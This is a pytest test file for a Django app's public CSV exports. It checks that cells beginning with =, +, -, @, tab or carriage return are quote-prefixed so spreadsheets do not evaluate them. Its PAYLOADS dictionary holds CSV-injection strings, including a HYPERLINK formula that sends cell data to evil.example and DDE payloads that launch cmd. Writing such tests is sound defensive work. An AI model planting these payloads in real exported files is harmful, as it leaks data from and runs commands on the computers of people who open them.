"""The public CSV exports never hand a formula to the spreadsheet that opens them (issue 14, item 5)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.urls import reverse

from atlasia.publication import exporters

PAYLOADS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"Voir")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}


@pytest.fixture
def hostile(world: dict[str, Any], make_usecase: Any) -> Any:
    return make_usecase(
        world["org_a"],
        title=PAYLOADS["equals"],
        summary=PAYLOADS["minus"],
        problem=PAYLOADS["plus"],
        expected_benefits=PAYLOADS["tab"],
        human_oversight=PAYLOADS["carriage-return"],
        tags=[PAYLOADS["at"], "dépistage"],
        publication_level="public",
    )


def _rows(content: bytes, delimiter: str) -> list[dict[str, str]]:
    text = content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("route", "delimiter"),
    [("publication_export_csv", ";"), ("publication_export_csv_comma", ",")],
)
@pytest.mark.parametrize(
    ("prefix", "column"),
    [
        ("equals", "titre"),
        ("plus", "probleme_traite"),
        ("minus", "resume"),
        ("at", "mots_cles"),
        ("tab", "benefices_attendus"),
        ("carriage-return", "controle_humain"),
    ],
)
def test_each_formula_prefix_is_neutralised_in_the_public_csv(
    client: Any, hostile: Any, route: str, delimiter: str, prefix: str, column: str
) -> None:
    content = client.get(reverse(route)).content
    row = next(r for r in _rows(content, delimiter) if r["identifiant"] == str(hostile.uid))
    cell = row[column]
    assert cell.startswith("'" + PAYLOADS[prefix]), cell
    # No cell of the file starts with a character a spreadsheet would evaluate.
    for r in _rows(content, delimiter):
        for name, value in r.items():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, value)
            for item in value.split(exporters.LIST_SEPARATOR):
                assert item[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, item)


@pytest.mark.django_db
def test_programs_reading_the_csv_get_the_original_text_back(client: Any, hostile: Any) -> None:
    from_json = client.get(reverse("publication_export_json")).json()["cas_d_usage"]
    for route, delimiter in (("publication_export_csv", ";"), ("publication_export_csv_comma", ",")):
        records = exporters.from_csv(client.get(reverse(route)).content, delimiter=delimiter)
        assert records == from_json
    record = next(r for r in from_json if r["identifiant"] == str(hostile.uid))
    assert record["titre"] == PAYLOADS["equals"] and record["mots_cles"][0] == PAYLOADS["at"]
